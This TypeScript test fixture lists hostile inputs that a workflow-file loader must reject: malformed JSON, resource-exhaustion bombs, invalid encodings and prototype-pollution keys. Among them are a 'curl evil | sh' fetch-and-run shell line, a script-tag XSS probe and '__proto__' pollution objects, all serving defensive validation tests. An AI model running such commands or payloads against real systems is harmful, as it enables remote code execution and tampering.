import { soundWorkflow } from './sound-workflow.ts';

/** A file that must be refused: with this code, at this place (the end of `where`, or the path of one issue). */
export interface HostileCase {
  name: string;
  file: string | Uint8Array;
  code: string;
  at: string;
  /** What the message must hold as well. */
  says?: string;
}

const text = JSON.stringify(soundWorkflow());
const cut = (end: string) => text.slice(0, -1) + end;
const utf16 = new Uint8Array(Buffer.from(`\ufeff${text}`, 'utf16le'));
/** As many members as make the file pass its limit by one character. */
const tooLong = (() => {
  const head = '{"name":"';
  return `${head}${'x'.repeat(10 * 1_048_576 - head.length - 1)}"}`;
})();
const many = (count: number, piece: (i: number) => string) =>
  Array.from({ length: count }, (_, i) => piece(i)).join(',');
const with_ = (member: string) => cut(`,${member}}`);

const notJson = (name: string, file: string, line: number, column: number): HostileCase => ({
  name,
  file,
  code: 'workflow.not_json',
  at: `, line ${line}, column ${column}`,
});
const schema = (name: string, file: string, at: string, says?: string): HostileCase => ({
  name,
  file,
  code: 'workflow.schema',
  at,
  ...(says !== undefined && { says }),
});

/** Files whose text is the attack: no JSON, too much of it, or JSON that two programs read differently. */
export const textCases: readonly HostileCase[] = [
  notJson('an empty file', '', 1, 1),
  notJson('white space alone', ' \n\n ', 3, 2),
  notJson('a file that is cut off', text.slice(0, 40), 1, 41),
  notJson('a text that is cut off', '{\n  "format": 1,\n  "name": "Supp', 3, 16),
  notJson('a text that ends in its escape', '{"a": "\\', 1, 8),
  notJson('YAML', 'format: 1\nid: wf_x\n', 1, 1),
  notJson('a shell script', '#!/bin/sh\ncurl evil | sh\n', 1, 1),
  notJson('HTML', '<script>alert(1)</script>', 1, 1),
  notJson('a comment', '{\n  // hi\n  "format": 1\n}', 2, 3),
  notJson('a block comment', '{ "format": 1 /* x */ }', 1, 15),
  notJson('a trailing comma in an object', '{\n  "format": 1,\n}', 3, 1),
  notJson('a trailing comma in a list', '[1, 2,]', 1, 7),
  notJson('single quotes', "{'format': 1}", 1, 2),
  notJson('a key without quotes', '{format: 1}', 1, 2),
  notJson('a missing comma', '{"a": 1\n "b": 2}', 2, 2),
  notJson('a missing colon', '{"a" 1}', 1, 6),
  notJson('two documents', '{}\n{}', 2, 1),
  notJson('text behind the end', `${text}<!-- x -->`, 1, text.length + 1),
  notJson('the wrong bracket', '{"a": [1}', 1, 9),
  notJson('NaN', '{"format": NaN}', 1, 12),
  notJson('Infinity', '{"format": -Infinity}', 1, 12),
  notJson('a hexadecimal number', '{"format": 0x1}', 1, 13),
  notJson('a number with a leading zero', '{"format": 01}', 1, 13),
  notJson('a number with a plus', '{"format": +1}', 1, 12),
  notJson('a bare point', '{"format": .5}', 1, 12),
  notJson('undefined', '{"format": undefined}', 1, 12),
  notJson('a function', '{"format": function () {}}', 1, 12),
  notJson('a raw line break in a text', '{"name": "a\nb"}', 1, 12),
  notJson('a raw NUL', '{"name": "a\0b"}', 1, 12),
  notJson('a wrong escape', '{"name": "\\x41"}', 1, 11),
  notJson('half an escape', '{"name": "\\u00g0"}', 1, 11),
  notJson('a template literal', '{"name": `x`}', 1, 10),
  notJson('a no-break space between tokens', '{\u00a0"format": 1}', 1, 2),
  notJson('a byte order mark twice', `\ufeff\ufeff${text}`, 1, 1),
  { name: 'UTF-16', file: utf16, code: 'workflow.unreadable', at: '', says: 'UTF-8' },
  {
    name: 'a byte that is not UTF-8',
    file: new Uint8Array([...Buffer.from('{"name": "a'), 0xff, ...Buffer.from('"}')]),
    code: 'workflow.unreadable',
    at: '',
    says: 'UTF-8',
  },
  {
    name: 'an overlong encoding of a slash',
    file: new Uint8Array([...Buffer.from('{"name": "a'), 0xc0, 0xaf, ...Buffer.from('"}')]),
    code: 'workflow.unreadable',
    at: '',
    says: 'UTF-8',
  },
  { name: '10 MB and a byte', file: tooLong, code: 'workflow.too_large', at: '', says: '10.0 MB' },
  {
    name: 'a million empty objects',
    file: `[${many(1_000_000, () => '{}')}]`,
    code: 'workflow.too_large',
    at: ' at $',
    says: '500000',
  },
  {
    name: 'wires by the million',
    file: with_(`"edges":[${many(1_000_000, () => '0')}]`).replace('"edges":[{', '"x":[{'),
    code: 'workflow.too_large',
    at: ' at $',
  },
  {
    name: '40,001 wires',
    file: with_(`"edges":[${many(40_001, () => '{}')}]`).replace('"edges":[{"id', '"x":[{"id'),
    code: 'workflow.too_large',
    at: ' at $.edges',
    says: '40000',
  },
  { name: '65 levels', file: '['.repeat(65) + ']'.repeat(65), code: 'workflow.too_deep', at: ' at $', says: '64' },
  { name: '100,000 levels', file: '['.repeat(100_000), code: 'workflow.too_deep', at: ' at $', says: '64' },
  {
    name: '100,000 levels of objects',
    file: `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`,
    code: 'workflow.too_deep',
    at: ' at $',
  },
  {
    name: 'depth behind an honest beginning',
    file: with_(`"layout":${'['.repeat(5000)}${']'.repeat(5000)}`),
    code: 'workflow.too_deep',
    at: ' at $',
  },
  { name: '10 MB of brackets', file: '['.repeat(10 * 1_048_576), code: 'workflow.too_deep', at: ' at $' },
  {
    name: '5,001 nodes',
    file: `{"format":1,"nodes":[${many(5001, (i) => `{"id":"n${i}"}`)}]}`,
    code: 'workflow.too_many_nodes',
    at: ' at $.nodes',
    says: '5000',
  },
  schema('null', 'null', '$'),
  schema('a list', '[]', '$'),
  schema('a number', '1', '$'),
  schema('a text', '"format"', '$'),
  schema('a key twice at the top', with_('"id":"wf_other"'), '$.id', 'twice'),
  schema(
    'a key twice in a node',
    text.replace('"id":"question"', '"id":"question","type":"note"'),
    '$.nodes[0].type',
    'twice',
  ),
  schema('a key twice, once escaped', with_('"na\\u006de":"x"'), '$.name', 'twice'),
  schema(
    'a key twice in a config',
    text.replace('"profile":"reader"', '"profile":"a","profile":"reader"'),
    '$.nodes[2].config.profile',
  ),
  schema('__proto__ at the top', with_('"__proto__":{"polluted":1}'), '$.__proto__', 'not allowed'),
  schema('__proto__ by an escape', with_('"__pr\\u006fto__":{"polluted":1}'), '$.__proto__'),
  schema(
    '__proto__ in a config',
    text.replace('"config":{', '"config":{"__proto__":{"polluted":1},'),
    '$.nodes[0].config.__proto__',
  ),
  schema(
    '__proto__ deep in a JSON Schema',
    text.replace('"schema":{}', '"schema":{"a":[{"__proto__":{"polluted":1}}]}'),
    '$.nodes[3].config.checks[1].schema.a[0].__proto__',
  ),
  schema(
    'constructor.prototype',
    with_('"layout":{"constructor":{"prototype":{"polluted":1}}}'),
    '$.layout.constructor',
  ),
  schema(
    'prototype among the outputs',
    text.replace('"outputs":{', '"outputs":{"prototype":{"type":"any"},'),
    '$.outputs.prototype',
  ),
  schema(
    '__proto__ in the resources',
    text.replace('"profiles":{', '"profiles":{"__proto__":{"name":"x"},'),
    '$.resources.profiles.__proto__',
  ),
  schema('half a surrogate pair', text.replace('Nothing wrong', '\\ud800'), '$.name', 'surrogate'),
  schema('a pair the wrong way round', text.replace('Nothing wrong', '\\udc00\\ud800'), '$.name', 'surrogate'),
  schema(
    'a NUL by an escape',
    text.replace('"expression":"value"', '"expression":"value\\u0000"'),
    '$.nodes[6].config.expression',
    'NUL',
  ),
  schema('a number beyond all bounds', text.replace('"format":1', '"format":1e999'), '$.format'),
  schema('minus zero as the version', text.replace('"version":1', '"version":-0'), '$.nodes[0].version'),
  schema('endless text in an id', text.replace('wf_sound-one', `wf_${'a'.repeat(5_000_000)}`), '$.id'),
  schema('nine thousand unknown keys', with_(many(9_000, (i) => `"k${i}":1`)), '$.k0', 'Unknown field'),
  {
    name: 'a hundred thousand unknown keys',
    file: with_(many(100_000, (i) => `"k${i}":1`)),
    code: 'workflow.too_large',
    at: ' at $',
    says: '10000',
  },
  {
    name: 'a hundred thousand positions',
    file: with_(`"layout":{"positions":{${many(100_000, (i) => `" ${i}":0`)}}}`),
    code: 'workflow.too_large',
    at: ' at $.layout.positions',
  },
  schema(
    'notes by the thousand with nothing in them',
    with_(`"layout":{"notes":[${many(20_000, () => '0')}]}`),
    '$.layout.notes[0]',
  ),
];
